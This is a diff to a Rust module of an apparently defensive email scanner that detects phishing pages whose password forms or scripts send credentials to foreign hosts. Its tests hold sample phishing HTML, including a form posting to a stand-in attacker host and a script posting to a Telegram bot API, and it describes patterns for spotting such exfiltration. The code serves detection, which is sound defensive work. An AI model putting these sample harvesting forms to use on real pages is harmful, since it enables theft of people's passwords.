@@ -5,15 +5,19 @@
 //! it (`XMLHttpRequest`, `fetch`, `sendBeacon`, jQuery's `ajax`/`post`,
 //! a Telegram bot API URL).
 //!
-//! Works on the revealed text (see `reveal`), so a form written by
-//! `document.write(unescape(...))` or an action set from `atob` is seen.
-//! Pure: takes the document and the organisations that are "home".
+//! Reads both the forms of the view's tokenizer (attributes decoded as a
+//! browser decodes them, so `type="pass&#119;ord"` or an action written with
+//! character references is seen) and the revealed text (see `reveal`), so a
+//! form written by `document.write(unescape(...))` or an action set from
+//! `atob` is seen too. Pure: takes the document and the organisations that
+//! are "home".
 
 use std::sync::LazyLock;
 
 use regex::Regex;
 
 use crate::scan::brands;
+use crate::scan::view::Form;
 
 /// A password input, however it is written (`type=password`, `type="password"`,
 /// `.type = 'password'` in script).
@@ -41,20 +45,23 @@ pub(crate) struct CredentialForm {
     pub(crate) scripted: bool,
 }
 
-/// Looks for a password request in `revealed` (the document with its
-/// disguises undone). `home` holds the registrable domains that are not
-/// foreign: the sender's and the tenant's.
-pub(crate) fn credential_form(revealed: &str, home: &[String]) -> Option<CredentialForm> {
-    if !PASSWORD_FIELD.is_match(revealed) {
+/// Looks for a password request in a document: its `forms` as the view's
+/// tokenizer read them, and `revealed` (its markup with disguises undone).
+/// `home` holds the registrable domains that are not foreign: the sender's
+/// and the tenant's.
+pub(crate) fn credential_form(revealed: &str, forms: &[Form], home: &[String]) -> Option<CredentialForm> {
+    if !forms.iter().any(|f| f.password) && !PASSWORD_FIELD.is_match(revealed) {
         return None;
     }
     let foreign = |host: &str| {
         let org = brands::organisation(host);
         !home.contains(&org)
     };
-    let form_destination = FORM_TARGET
-        .captures_iter(revealed)
-        .filter_map(|c| host_of(&c[1]))
+    let form_destination = forms
+        .iter()
+        .filter_map(|f| f.action.as_deref())
+        .filter_map(host_of)
+        .chain(FORM_TARGET.captures_iter(revealed).filter_map(|c| host_of(&c[1])))
         .find(|h| foreign(h));
     let scripted = SCRIPT_SEND.is_match(revealed);
     let script_destination = if scripted && form_destination.is_none() {
@@ -96,7 +103,7 @@ mod tests {
     fn a_password_form_posting_elsewhere_is_found() {
         let html = r#"<form method=post action="https://collect.evil.example/p.php"><input type="email" name=u>
 <input type = "password" name=p></form>"#;
-        let f = credential_form(html, &home()).unwrap();
+        let f = credential_form(html, &[], &home()).unwrap();
         assert_eq!(f.destination.as_deref(), Some("collect.evil.example"));
         assert!(!f.scripted);
     }
@@ -104,7 +111,7 @@ mod tests {
     #[test]
     fn a_script_sending_the_password_is_found() {
         let html = r#"<input id=p type='password'><script>fetch("https://api.telegram.org/bot1/sendMessage",{method:"POST"})</script>"#;
-        let f = credential_form(html, &home()).unwrap();
+        let f = credential_form(html, &[], &home()).unwrap();
         assert_eq!(f.destination.as_deref(), Some("api.telegram.org"));
         assert!(f.scripted);
     }
@@ -112,10 +119,10 @@ mod tests {
     #[test]
     fn home_forms_and_pages_without_passwords_are_not_foreign() {
         let own = r#"<form action="https://www.sender.example/login"><input type=password></form>"#;
-        assert_eq!(credential_form(own, &home()).unwrap().destination, None);
+        assert_eq!(credential_form(own, &[], &home()).unwrap().destination, None);
         let search = r#"<form action="https://search.example/q"><input type=text name=q></form>"#;
-        assert_eq!(credential_form(search, &home()), None);
+        assert_eq!(credential_form(search, &[], &home()), None);
         // The word in prose is no field.
-        assert_eq!(credential_form("<p>Type your password below.</p>", &home()), None);
+        assert_eq!(credential_form("<p>Type your password below.</p>", &[], &home()), None);
     }
 }
